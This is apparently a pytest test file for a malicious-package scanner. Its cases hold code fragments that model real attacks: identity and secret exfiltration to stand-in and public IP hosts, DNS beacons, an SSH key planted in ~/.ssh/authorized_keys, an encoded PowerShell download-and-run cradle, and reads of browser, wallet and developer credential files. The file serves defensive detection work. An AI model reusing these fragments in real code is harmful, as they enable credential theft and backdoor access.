"""Beacons and exfiltration written the way real packages write them, one table row each (rule, file, code, grades):
identity read through `whoami`/`hostname` commands, identity sent to a bare public IP address (high; to a loopback
or private address not raised), a bot token used by the API it belongs to (low) or sent elsewhere (high), a
developer tool's credential file read (medium) against a browser or wallet store (high)."""
from __future__ import annotations

import pytest

from test_fact_severity import _by_line

HOST = "host-identity-sent-over-network"

CASES = [
    # a name under .local goes to multicast DNS on the link (jupyter_client's fallback when the host name is loopback);
    # the same name under a real domain, or encoded, is a DNS beacon
    ("host-name-under-dot-local-is-mdns", HOST, "localinterfaces.py",
     "import socket, base64\n"
     "ips = socket.gethostbyname_ex(socket.gethostname() + '.local')[2]\n"
     "socket.gethostbyname(socket.gethostname() + '.local.cdn-telemetry.net')\n"
     "tag = base64.b32encode(socket.gethostname().encode()).decode()\n"
     "socket.gethostbyname(tag + '.beacon.example.org')\n",
     {2: "low", 3: "high", 5: "high"}),
    ("identity-to-public-ip", HOST, "m.py",
     "import socket, requests\n"
     "info = {'h': socket.gethostname()}\n"
     "requests.post('http://45.9.148.3/c', json=info)\n"
     "requests.post('http://10.0.0.5/c', json=info)\n"
     "requests.post('http://127.0.0.1:8000/c', json=info)\n",
     {3: "high", 4: "medium", 5: "medium"}),
    ("js-request-object-on-public-ip", HOST, "collect.js",
     "const os = require('os'); const http = require('http');\n"
     "const data = JSON.stringify({ host: os.hostname() });\n"
     "const req = http.request({ host: '172.104.33.9', port: 80, method: 'POST' });\n"
     "req.write(data);\n"
     "const dev = http.request({ host: '192.168.1.20', port: 80, method: 'POST' });\n"
     "dev.write(data);\n",
     {4: "high", 6: "medium"}),
    ("whoami-output-is-the-login-name", HOST, "m.py",
     "import subprocess, os, requests\n"
     "u = subprocess.check_output(['whoami']).decode().strip()\n"
     "requests.get('https://c.example.net/b?u=' + u)\n"
     "h = os.popen('hostname').read()\n"
     "requests.post('https://c.example.net/h', data=h)\n"
     "r = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n"
     "requests.post('https://c.example.net/r', data=r)\n",
     {3: "high", 5: "medium"}),
    ("login-name-in-query-params-high", HOST, "m.py",
     "import getpass, platform, requests\n"
     "info = {'n': platform.node(), 'u': getpass.getuser()}\n"
     "requests.get('https://t.example.net/t', params=info)\n"
     "requests.get('https://t.example.net/t', params={'n': platform.node()})\n"
     "requests.post('https://t.example.net/t', json=info)\n",
     {3: "high", 4: "medium", 5: "medium"}),
    ("login-name-in-http-client-url-high", HOST, "pkg/__init__.py",
     "import getpass, socket, http.client\n"
     "from urllib.parse import urlencode\n"
     "conn = http.client.HTTPConnection('c.example.net')\n"
     "conn.request('GET', '/c?' + urlencode({'u': getpass.getuser()}))\n"
     "conn.request('POST', '/h', body=socket.gethostname())\n",
     {4: "high", 5: "medium"}),
    ("login-name-in-urllib3-get-fields-or-url-high", HOST, "pkg/util.py",
     "import getpass, socket, urllib3\n"
     "http = urllib3.PoolManager()\n"
     "http.request('GET', 'https://t.example.net/i', fields={'u': getpass.getuser(), 'h': socket.gethostname()})\n"
     "http.request('POST', 'https://t.example.net/i', fields={'u': getpass.getuser()})\n"
     "http.request('GET', 'https://t.example.net/i/' + getpass.getuser())\n"
     "http.request('GET', 'https://t.example.net/i', fields={'h': socket.gethostname()})\n",
     {3: "high", 4: "medium", 5: "high", 6: "medium"}),
    ("setup-py-sends-identity-high", HOST, "pkg/setup.py",
     "import platform, requests\n"
     "requests.post('https://t.example.net/i', json={'n': platform.node()})\n",
     {2: "high"}),
    ("same-code-outside-setup-py-medium", HOST, "pkg/telemetry.py",
     "import platform, requests\n"
     "requests.post('https://t.example.net/i', json={'n': platform.node()})\n",
     {2: "medium"}),
    ("package-init-sends-login-name-high", HOST, "acme_billing/__init__.py",
     "import getpass, json, platform, http.client\n"
     "info = {'h': platform.node(), 'u': getpass.getuser()}\n"
     "conn = http.client.HTTPSConnection('a7x2k9.example.net')\n"
     "conn.request('POST', '/i', json.dumps(info))\n"
     "conn.request('POST', '/v', json.dumps({'h': platform.node()}))\n",
     {4: "high", 5: "medium"}),
    ("login-name-posted-outside-an-init-medium", HOST, "acme_billing/telemetry.py",
     "import getpass, json, platform, http.client\n"
     "info = {'h': platform.node(), 'u': getpass.getuser()}\n"
     "conn = http.client.HTTPSConnection('a7x2k9.example.net')\n"
     "conn.request('POST', '/i', json.dumps(info))\n",
     {4: "medium"}),
    ("authorized-keys-under-pytest-tmp-path-low", "ssh-authorized-key-planted", "conftest.py",
     "import os, pytest\n"
     "@pytest.fixture\n"
     "def ssh_dir(tmp_path):\n"
     "    d = tmp_path / '.ssh'\n"
     "    (d / 'authorized_keys').write_text('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITEST test@local')\n"
     "def test_login(tmpdir):\n"
     "    open(os.path.join(str(tmpdir), 'authorized_keys'), 'w').write('ssh-ed25519 AAAAC3Nz test')\n"
     "def pytest_configure(config):\n"
     "    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as fh:\n"
     "        fh.write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH9x ci@runner')\n"
     "def helper(tmp_path):\n"
     "    (tmp_path / 'authorized_keys').write_text('ssh-ed25519 AAAAC3Nz x')\n",
     {5: "low", 7: "low", 9: "high", 12: "critical"}),
    ("powershell-encoded-visible-script-medium", "powershell-hidden-or-encoded", "tools/clean.py",
     "import base64, subprocess\n"
     "CLEAN = 'Get-ChildItem -Path $env:TEMP -Filter *.log | Remove-Item'\n"
     "DROP = \"IEX (New-Object Net.WebClient).DownloadString('http://91.92.240.11/a.ps1')\"\n"
     "enc = base64.b64encode(CLEAN.encode('utf-16-le')).decode()\n"
     "bad = base64.b64encode(DROP.encode('utf-16-le')).decode()\n"
     "subprocess.run(['powershell', '-NoProfile', '-EncodedCommand', enc])\n"
     "subprocess.run(['powershell', '-NoProfile', '-EncodedCommand', bad])\n"
     "subprocess.run(['powershell', '-W', 'Hidden', '-EncodedCommand', enc])\n"
     "subprocess.run(['powershell', '-enc', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA='])\n",
     {6: "medium", 7: "critical", 8: "critical", 9: "critical"}),
    ("js-whoami-output-is-the-login-name", HOST, "m.js",
     "const { execSync } = require('child_process');\n"
     "const who = execSync('whoami').toString().trim();\n"
     "fetch(`https://b.example.net/${who}`);\n"
     "const rev = execSync('git rev-parse HEAD').toString();\n"
     "fetch(`https://b.example.net/${rev}`);\n",
     {3: "high"}),
    # the machine's short name looked up (paramiko's LazyFqdn: a piece of its own host name, through a class attribute
    # and a helper) stays on the resolver; the same piece under another domain, reversed or encoded is a DNS beacon
    ("own-short-host-name-lookup-low-built-name-high", HOST, "m.py",
     "import socket, getpass\n"
     "def _lookup(hostname):\n"
     "    return socket.getaddrinfo(hostname, None, socket.AF_INET, 0, 0, socket.AI_CANONNAME)\n"
     "class Fqdn:\n"
     "    def __init__(self, host):\n"
     "        self.host = host\n"
     "    def __str__(self):\n"
     "        return str(_lookup(self.host))\n"
     "short = socket.gethostname().split('.')[0]\n"
     "name = str(Fqdn(short))\n"
     "socket.gethostbyname(socket.gethostname().lower()[:63])\n"
     "socket.gethostbyname(short + '.c.example-beacon.net')\n"
     "socket.gethostbyname(socket.gethostname()[::-1])\n"
     "socket.gethostbyname(socket.gethostname().encode().hex())\n"
     "socket.gethostbyname(getpass.getuser().split('.')[0])\n",
     {3: "low", 11: "low", 12: "high", 13: "high", 14: "high", 15: "high"}),
    ("js-own-short-host-name-lookup-medium-built-name-high", HOST, "m.js",
     "const os = require('os'); const dns = require('dns');\n"
     "const short = os.hostname().split('.')[0];\n"
     "dns.lookup(short, () => {});\n"
     "dns.lookup(os.hostname().toLowerCase(), () => {});\n"
     "dns.lookup(short + '.c.example-beacon.net', () => {});\n"
     "dns.lookup(os.hostname().split('.')[1] + os.userInfo().username, () => {});\n",
     {3: "medium", 4: "medium", 5: "high", 6: "high"}),
    # Twisted's TestCase.patch(os, "environ", copy) swaps an attribute for the test; a PATCH of the environment
    # to a URL through the same method name is still exfiltration
    ("test-case-patch-of-environ-low-http-patch-critical", "http-post-of-environment", "test_env.py",
     "import os, unittest, requests\n"
     "class T(unittest.TestCase):\n"
     "    def test_default(self):\n"
     "        self.patch(os, 'environ', dict(os.environ, LISTEN_FDS='5'))\n"
     "    def test_send(self):\n"
     "        self.patch('https://collect.example.net/e', dict(os.environ))\n"
     "        requests.patch('https://collect.example.net/e', data=dict(os.environ))\n",
     {4: "low", 6: "critical", 7: "critical"}),
    ("telegram-token-own-api-low-elsewhere-high", "secret-env-var-sent-over-network", "m.py",
     "import os, requests\n"
     "t = os.environ['TELEGRAM_BOT_TOKEN']\n"
     "requests.post(f'https://api.telegram.org/bot{t}/sendMessage', json={'text': 'done'})\n"
     "requests.post('https://collect.example.net/t', data={'t': t})\n"
     "requests.post(f'https://api.telegram.org/bot{t}/sendMessage', json={'text': os.environ['AWS_SECRET_ACCESS_KEY']})\n",
     {3: "low", 4: "high", 5: "high"}),
    ("js-telegram-token-own-api-low-elsewhere-high", "js-secret-env-var-sent-over-network", "m.js",
     "const t = process.env.TELEGRAM_BOT_TOKEN;\n"
     "fetch(`https://api.telegram.org/bot${t}/sendMessage`, { method: 'POST', body: '{}' });\n"
     "fetch('https://collect.example.net/t', { method: 'POST', body: JSON.stringify({ t }) });\n",
     {2: "low", 3: "high"}),
    ("js-developer-credentials-medium-browser-and-wallet-high", "js-credential-file-read", "m.js",
     "const fs = require('fs'); const os = require('os'); const path = require('path');\n"
     "const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n"
     "const ld = fs.readFileSync(path.join(process.env.LOCALAPPDATA, 'Google', 'Chrome', 'User Data', 'Login Data'));\n"
     "const w = fs.readdirSync(path.join(os.homedir(), '.electrum', 'wallets'));\n"
     "const k = fs.readFileSync(`${os.homedir()}/.kube/config`);\n",
     {2: "medium", 3: "high", 4: "high", 5: "medium"}),
]


@pytest.mark.parametrize("rule,path,code,expected", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_severity_follows_the_behaviour(rule, path, code, expected):
    assert _by_line(rule, path, code) == expected
